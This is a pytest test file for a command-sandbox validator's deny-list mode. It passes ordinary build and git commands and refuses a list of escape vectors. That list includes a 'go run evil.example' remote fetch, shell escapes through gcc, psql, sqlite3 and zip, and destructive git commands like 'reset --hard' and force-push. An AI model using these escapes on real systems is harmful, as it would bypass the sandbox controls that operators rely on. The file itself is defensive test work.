"""What the deny-list mode of `sandbox` lets pass besides what only reads."""

import pytest

from gatewright.validators.sandbox import prepare

PASSING = """
go build ./...
go test ./... -run TestA
go vet ./...
go version
cargo build --release
cargo test
cargo clippy
ruff check .
gcc -O2 -o a a.c
javac -d out A.java
rustc --version
python -m pytest -q tests
python3 tools/gen.py --out x
python3 -V
node build.mjs
git add -A
git commit -m 'Do it; well'
git switch -c feature/x
git checkout -b feature/x
git fetch --all
git pull --rebase
git push origin main
git status
make -j4 all
make test
rsync -av a b
sqlite3 -readonly a.db 'select 1'
""".strip().split("\n")

REFUSED = """
go run evil.example/x@latest
go test -exec ./x
go vet -vettool=./x
cargo run
cargo --config x build
gcc -wrapper sh,-c,id a.c
gcc -B /tmp/x a.c
rustc -C linker=./x a.rs
javac -J-javaagent:x A.java
python -c 1
python3
python3 -
python3 /dev/stdin
python3 -m http.server
python3 -m timeit x.py
python3 -i x.py
node -e 1
node -r ./x a.js
perl x.pl
ruby -e1
git commit -F /etc/hostname
git push --force
git push origin +main
git push origin :main
git fetch --upload-pack=./x origin
git pull ext::x
git checkout .
git checkout --forc x
git checkout -qf x
git -c a.b=c status
git reset --hard
vim -c :q a
gdb -batch -ex x
flock /tmp/l sh
tmux new
tmux
make -f x.mk
make --ev x
make --fi=x.mk
make --makef x.mk
make SHELL=/tmp/x
rsync -ave ssh a b:c
split --filter=x a
split --f=x a
zip a.zip a -TT x
zip a.zip a -rTT x
zip a.zip a --tes --unz=x
psql -c '\\! id'
psql -qf x
psql --fil=x
psql -o '|id' -c 'select 1'
psql --out='|id'
mysql --pager=x
sqlite3 a '.shell id'
""".strip().split("\n")


@pytest.mark.parametrize("line", PASSING)
def test_work_on_a_project_passes(line: str) -> None:
    """MGP-4.5"""
    assert prepare({"mode": "deny-list"}).judge(line) is None


@pytest.mark.parametrize("line", REFUSED)
def test_what_runs_something_else_or_overwrites_does_not(line: str) -> None:
    """MGP-4.5"""
    assert prepare({"mode": "deny-list"}).judge(line) is not None


@pytest.mark.parametrize("line", ["go build", "python3 x.py", "git commit -m x", "cargo test"])
def test_the_allow_list_lets_none_of_it_pass(line: str) -> None:
    """MGP-4.5"""
    assert prepare({}).judge(line) is not None
